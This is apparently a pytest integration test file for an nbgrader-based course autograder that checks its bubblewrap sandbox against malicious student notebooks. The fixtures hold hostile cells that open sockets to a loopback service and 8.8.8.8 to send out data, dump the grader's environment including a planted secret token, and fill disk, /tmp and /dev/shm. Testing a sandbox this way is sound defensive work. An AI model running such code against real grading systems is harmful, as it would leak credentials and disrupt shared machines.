"""`coursekit grade` on a class of bad submissions of the tiny assignment: one real, parallel,
sandboxed nbgrader run; every row present with its expected score and status.

Only what needs that run is here (statuses and scores from execution, the sandbox, the files the run writes).
Collection, reading, repair and integrity flags of the same catalogue need no kernel and no sandbox: they are
tests/unit/test_prepare_bad_input.py, which runs on every machine, bubblewrap or not."""

from __future__ import annotations

import csv
import json
import os
import socket
import threading
from pathlib import Path

import nbformat
import pytest

from coursekit.grading import GradeOptions, grade_class
from coursekit.grading.model import GiB, Limits, MiB, Status
from coursekit.grading.pipeline import defaults_text
from coursekit.grading.sandbox import bwrap_problem
from coursekit.sources import grade_id, with_answers

from .builders import (
    TINY,
    A,
    Case,
    bad_input_class,
    duplicates,
    notebooks,
    solved,
    w,
    with_cell_after,
    write_class_with_junk,
)
from .repo import ROOT

LIMITS = Limits(cell_timeout_s=5, notebook_timeout_s=15, memory_bytes=int(1.5 * GiB),
                folder_bytes=64 * MiB, tmp_bytes=64 * MiB, shm_bytes=16 * MiB, file_bytes=64 * MiB)
SECRET = "ck-test-secret-4d1e8c"  # placed in the grader's environment, like an instructor's cloud token


class Listener:
    """A TCP service on the grading machine's loopback, as an instructor's Jupyter or database would be."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(1000) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, tiny_release):
    if bwrap_problem():
        pytest.skip(f"needs the bubblewrap sandbox: {bwrap_problem()} (make system-deps installs it as root)")
    tmp = tmp_path_factory.mktemp("grade-bad")
    release = tiny_release  # generated exactly as the grader does, to build submissions from
    out = tmp / "out"
    secret = tmp / "instructor-secret.txt"
    secret.write_text("hidden")
    forbidden = {"gradebook": out / "course" / "gradebook.db", "secret": secret,
                 "other_student": tmp / "class" / "ok" / f"{A}.ipynb",
                 "solutions": ROOT / "solutions"}
    cases = bad_input_class(release, forbidden)
    _, _, ans = notebooks(release)
    good = solved(release, ans)
    # per-notebook wall-time limit: every cell within the cell limit, the whole notebook over it
    slow = good
    for _ in range(6):
        slow = with_cell_after(slow, "task1_tests", "import time\ntime.sleep(3)")
    cases["slow"] = Case(w(slow), 0, "timed_out")
    # a correct answer whose own code warns while the tests call it: full marks, the warning shown
    warns = with_answers(good, {"task1_solution": "import warnings\n\ndef double(x):\n"
                                                  "    warnings.warn('double() is deprecated', DeprecationWarning)\n"
                                                  "    import numpy as np\n    np.float64(1) / np.float64(0)  # RuntimeWarning\n"
                                                  "    return x + x"}, {"task1_solution"})
    cases["warns_in_tests"] = Case(w(warns), 3, "graded")
    # the network: a loopback service of the grading machine, and the outside world
    listener = Listener()
    net = ("import socket\nnet = []\n"
           f"for host, port in [('127.0.0.1', {listener.port}), ('localhost', {listener.port}), ('8.8.8.8', 53)]:\n"
           "    try:\n        s = socket.create_connection((host, port), timeout=2)\n"
           "        s.sendall(b'exfiltrated hidden tests')\n        net.append((host, 'CONNECTED'))\n"
           "    except OSError as e:\n        net.append((host, type(e).__name__))\nprint('NET', net)")
    cases["network"] = Case(w(with_cell_after(good, "task1_solution", net)), 3, "graded")
    # the grader's environment
    cases["environ"] = Case(w(with_cell_after(good, "task1_solution",
                                              "import os\nprint('ENV', dict(os.environ))")), 3, "graded")
    # disk: 200 MiB into its own folder, 200 MiB into /tmp and /dev/shm (limits: 64, 64, 16 MiB)
    hog = ("import os\nhit = []\nfor folder in ['.', '/tmp', '/dev/shm']:\n    try:\n"
           "        with open(os.path.join(folder, 'hog.bin'), 'wb') as f:\n"
           "            for _ in range(200):\n                f.write(b'x' * 2**20)\n"
           "        hit.append((folder, 'wrote 200 MiB'))\n    except OSError as e:\n"
           "        hit.append((folder, e.strerror))\nprint('DISK', hit)\n"
           "raise OSError(28, 'No space left on device')  # the row must say so")
    cases["disk_hog"] = Case(w(with_cell_after(good, "task1_solution", hog)), 3, "graded")
    cases.update(duplicates(release, good))
    folder = write_class_with_junk(tmp / "class", cases)
    logs: list[str] = []
    opts = GradeOptions(A, folder, out, source=TINY, jobs=2, limits=LIMITS, progress=False)
    os.environ["COURSEKIT_TEST_TOKEN"] = SECRET  # the worker processes inherit it, as from an instructor's shell
    try:
        report = grade_class(opts, logs.append)
    finally:
        os.environ.pop("COURSEKIT_TEST_TOKEN", None)
        listener.close()
    del cases["dup_old"]
    report.listener_received = listener.received
    report.announced = defaults_text(opts)
    return cases, report, out, forbidden, logs


def _printed(out: Path, student: str) -> str:
    nb = nbformat.read(out / "course" / "autograded" / student / A / f"{A}.ipynb", as_version=4)
    return "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))


def test_warnings_cost_no_points_and_stay_visible(graded):
    _, report, out, _, _ = graded
    row = report.rows["warns_in_tests"]
    assert (row.score, row.tests["task1_tests"]) == (3, 1), row
    assert "double() is deprecated" in _printed(out, "warns_in_tests"), "the warning must stay visible"
    assert any("wrote to stderr in" in f and "no points lost" in f for f in row.flags), row.flags


def test_student_code_reaches_no_network(graded):
    _, report, out, _, _ = graded
    assert report.listener_received == [], f"a kernel reached a loopback service: {report.listener_received}"
    printed = _printed(out, "network")
    assert "NET [" in printed and "CONNECTED" not in printed, printed[-500:]


def test_the_graders_environment_reaches_no_output(graded):
    _, report, out, _, _ = graded
    assert "ENV {" in _printed(out, "environ")
    leaks = [p for p in out.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]
    assert leaks == [], f"the grader's secret appears in {leaks}"
    env = _printed(out, "environ").split("ENV ", 1)[1]
    assert "'HOME': '/tmp'" in env and "COURSEKIT" not in env


def test_patching_the_assertion_helpers_is_flagged_in_grades_csv(graded):
    _, report, out, _, _ = graded
    with (out / "grades.csv").open() as f:
        rows = {r["student_id"]: r for r in csv.DictReader(f)}
    assert "replaces the tests' assertion helpers" in rows["patches_helpers"]["flags"], rows["patches_helpers"]


def test_disk_writes_stop_at_the_limits_and_the_row_says_so(graded):
    _, report, out, _, _ = graded
    printed = _printed(out, "disk_hog")
    assert "DISK [" in printed and "wrote 200 MiB" not in printed, printed[-500:]
    assert printed.count("No space left on device") >= 3, printed[-500:]
    row = report.rows["disk_hog"]
    assert row.score == 3 and any("reached a disk limit" in f for f in row.flags), row.flags
    assert report.rows["ok"].status == "graded" and report.rows["ok"].flags == []



def test_every_submission_has_its_expected_score_and_status(graded):
    cases, report, out, _, _ = graded
    got = {s: (r.score, r.status) for s, r in report.rows.items()}
    want = {s: (float(c.score), c.status) for s, c in cases.items()}
    assert got == want


def test_grades_csv_has_one_row_per_submission(graded):
    cases, report, out, _, _ = graded
    with (out / "grades.csv").open() as f:
        rows = {r["student_id"]: r for r in csv.DictReader(f)}
    assert set(rows) == set(cases)
    assert rows["ok"]["task1 (of 1)"] == "1" and rows["ok"]["task2 (of 2)"] == "2"
    assert rows["deleted_tests"]["task1 (of 1)"] == "0" and rows["deleted_tests"]["task2 (of 2)"] == "2"
    assert rows["empty"]["status"] == "unreadable"
    # nbgrader's own export agrees with ours
    with (out / "nbgrader_export.csv").open() as f:
        export = {r["student_id"]: float(r["score"]) for r in csv.DictReader(f)}
    assert export == {s: float(c.score) for s, c in cases.items()}


def test_the_repairs_made_before_grading_reach_the_rows_and_the_gradebook(graded):
    """What each repair is: tests/unit/test_prepare_bad_input.py. Here: the run keeps them, and the notebook
    nbgrader graded is the repaired one (the restored test ran: the wrong task 1 scored 0)."""
    _, report, out, _, _ = graded
    r = report.rows
    for student in ("deleted_tests", "edited_tests", "reordered", "retyped", "stripped"):
        assert r[student].repairs, (student, r[student])
    assert r["ok"].repairs == [] and r["blank"].repairs == []
    assert (r["edited_tests"].tests["task1_tests"], r["deleted_tests"].tests["task1_tests"]) == (0, 0)
    graded_nb = nbformat.read(out / "course" / "autograded" / "edited_tests" / A / f"{A}.ipynb", as_version=4)
    sources = {grade_id(c): c.source for c in graded_nb.cells}
    assert "pass  # tests removed" not in sources["task1_tests"] and "double(2)" in sources["task1_tests"]


def test_sandbox_hides_the_course_and_other_students(graded):
    cases, report, out, forbidden, _ = graded
    for path in forbidden.values():
        assert path.exists(), f"{path} was deleted by student code"
    nb = nbformat.read(out / "course" / "autograded" / "snoop" / A / f"{A}.ipynb", as_version=4)
    printed = "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
    assert "SNOOP []" in printed, printed[-500:]
    assert any("outside its folder" in f for f in report.rows["snoop"].flags)


def test_the_run_announces_its_limits_and_writes_its_report(graded):
    """Flags and listings of this catalogue: tests/unit/test_prepare_bad_input.py; the writers: tests/unit/test_report.py."""
    _, report, out, _, logs = graded
    assert report.rows["ok"].flags == [] and report.rows["other_assignment"].wrong_assignment
    assert len(report.replaced) == 1 and len(report.ignored) == 3, (report.replaced, report.ignored)
    assert logs[0] == report.announced, logs[:2]  # the options and limits in force, before anything runs
    text = (out / "report.md").read_text()
    for needle in ("## Failing tests", f"`exit`: {Status.KERNEL_DIED}", f"`slow`: {Status.TIMED_OUT}", "bubblewrap"):
        assert needle in text
    assert (out / "report.png").stat().st_size > 5000


def test_feedback_and_lms_layouts(graded):
    cases, report, out, _, _ = graded
    assert (out / "feedback" / "ok.html").exists()
    assert not (out / "feedback" / "empty.html").exists()
    with (out / "canvas.csv").open() as f:
        rows = list(csv.reader(f))
    assert rows[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert rows[1][0].strip() == "Points Possible" and rows[1][5] == "3"
    assert {r[0]: r[5] for r in rows[2:]}["ok"] == "3"
    with (out / "moodle.csv").open() as f:
        moodle = {r["ID number"]: r["Grade"] for r in csv.DictReader(f)}
    assert moodle["ok"] == "3" and moodle["blank"] == "0" and len(moodle) == len(cases)
    state = json.loads((out / "state.json").read_text())
    assert set(state["rows"]) == set(cases)


# real nbgrader runs of whole classes (minutes): `make test` runs them, `make test-fast` does not
pytestmark = pytest.mark.slow
